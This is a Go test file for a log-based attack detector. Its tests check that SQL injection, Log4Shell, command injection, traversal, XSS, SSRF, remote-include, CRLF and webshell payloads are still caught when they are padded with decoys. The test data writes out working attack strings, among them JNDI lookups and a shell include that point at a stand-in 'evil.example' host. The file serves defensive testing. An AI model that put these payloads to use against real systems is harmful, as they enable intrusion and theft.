package detect

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/logsift/logsift/internal/evidence"
	"github.com/logsift/logsift/internal/record"
)

// Decoy matches of a confirmed pattern must not use up the confirm checks
// and hide a real payload further on, in the same field or another.
func TestConfirmDecoys(t *testing.T) {
	pad := strings.Repeat("a", 3<<10)
	decoys := strings.Repeat("union/", 8)
	tests := []struct {
		name   string
		target string
		cat    evidence.Category
	}{
		{"decoys in the path, payload in the query", "/" + decoys + "?id=1+union+select+1,2", evidence.SQLInjection},
		{"decoys then padding in the query", "/p?" + strings.Repeat("q=union&", 8) + "pad=" + pad + "&id=1+union+select+1,2", evidence.SQLInjection},
		{"lookup decoys in the path, payload in the query", "/" + strings.Repeat("$%7Bx%7D/", 8) +
			"?x=$%7B$%7Blower:j%7Dndi:ldap://evil/a%7D", evidence.Log4Shell},
		{"upload padded with ./ segments", "/wp-content/uploads/" + strings.Repeat("./", 1<<10) + "x.php", evidence.Webshell},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			c := run(t, Config{}, []req{{ip: attacker, target: tc.target, status: 404, ua: browser}})
			a, _ := find(c, attacker)
			if hitFor(a, tc.cat) == nil {
				t.Fatalf("%s not found in %.120q", tc.cat, tc.target)
			}
		})
	}
}

// SQL hidden the way sqlmap's tamper scripts hide it.
func TestSQLDisguised(t *testing.T) {
	for _, tg := range []string{
		"/p?id=1%20/*!50000union*/%20/*!50000select*/%201,2",
		"/p?id=1%20union/*!select*/%201,2",
		"/p?id=-1%20UnIoN%0BSeLeCt%201,2",
		"/p?id=-1%20union%A0all%A0select%201,2",
		"/p?id=1+union/**/all/**/select+1,2",
		"/p?id=1%27%0Bor%0B%271%27=%271",
		"/p?q=x%27)%0Bselect%0Bpassword%0Bfrom%0Busers--",
	} {
		c := run(t, Config{}, []req{{ip: attacker, target: tg, status: 404, ua: browser}})
		if a, _ := find(c, attacker); hitFor(a, evidence.SQLInjection) == nil {
			t.Errorf("no SQL injection in %s", tg)
		}
	}
	// Words in a path are not a query.
	c := run(t, Config{}, []req{{ip: attacker, target: "/news/union/2024/select-committee", status: 404, ua: browser}})
	if a, _ := find(c, attacker); hitFor(a, evidence.SQLInjection) != nil {
		t.Error("SQL injection in a news path")
	}
}

// A payload padded with 1-32 KB of near-miss keywords before it, after it
// or both, in its own field or another, fires as it does alone: the checks
// have no budget that decoys could use up.
func TestPaddedPayloads(t *testing.T) {
	// Keywords of every confirmed pattern, each a near miss.
	nearMiss := "union x 'select x ${x} ;id_x |x `x $(x &&x =http x=//x \n x and 1 x<x onx sleep(x ' or x " +
		"select x from union all x ${lower:x} ;update x x=ftp javascript:void(0) %0dx &redirect_uri=//localhost&"
	payloads := []struct {
		name, param string // param: a whole query parameter
		rule        ruleID
	}{
		{"union select", "id=1 union select 1,2 from users", rSQLi},
		{"select from after a quote", "q=x') select password from users--", rSQLi},
		{"quote tautology", "u=admin' or '1'='1", rSQLi},
		{"boolean test", "id=1 and 1=2", rSQLi},
		{"stacked query", "id=1;drop table users", rSQLi},
		{"sleep", "id=1 and sleep(5)", rSQLi},
		{"jndi", "x=${jndi:ldap://evil.example/a}", rLog4Shell},
		{"nested jndi", "x=${${lower:j}${::-n}di:ldap://evil.example/a}", rLog4Shell},
		{"shell", "f=x;cat /etc/passwd", rCmdInjection},
		{"traversal", "file=../../etc/passwd", rTraversal},
		{"event handler", "q=<svg onload=alert(1)>", rXSS},
		{"loopback url", "url=http://127.0.0.1/admin", rSSRF},
		{"remote include", "page=http://evil.example/shell.txt?", rRFI},
		{"crlf", "next=/x%0d%0aSet-Cookie:%20a=b", rCRLF},
	}
	e, err := NewEngine(Config{})
	if err != nil {
		t.Fatal(err)
	}
	found := func(path, query string, r ruleID) found {
		rec := &record.Record{Time: t0, Client: netip.MustParseAddr(attacker), Method: "GET", Path: path, RawPath: path,
			Query: query, RawQuery: query, UA: browser, Status: 404}
		e.Observe(rec)
		return e.found[r]
	}
	for _, p := range payloads {
		alone := found("/p", p.param, p.rule)
		if !alone.hit || !alone.strong {
			t.Fatalf("%s alone: %+v, want a strong match", p.name, alone)
		}
		for _, n := range []int{1 << 10, 4 << 10, 8 << 10, 32 << 10} {
			junk := strings.Repeat(nearMiss, n/len(nearMiss)+1)[:n]
			if f := found("/p", "pad="+junk, p.rule); f.strong {
				t.Fatalf("the padding alone is a strong %s match: the test would prove nothing", rules[p.rule].id)
			}
			for _, tc := range []struct{ where, path, query string }{
				{"before", "/p", "pad=" + junk + "&" + p.param},
				{"after", "/p", p.param + "&pad=" + junk},
				{"around", "/p", "pad=" + junk + "&" + p.param + "&pad2=" + junk},
				{"in the path", "/" + junk, p.param},
			} {
				if f := found(tc.path, tc.query, p.rule); f.hit != alone.hit || f.strong != alone.strong {
					t.Errorf("%s with %d bytes of decoys %s: %+v, alone %+v", p.name, n, tc.where, f, alone)
				}
			}
		}
	}
}
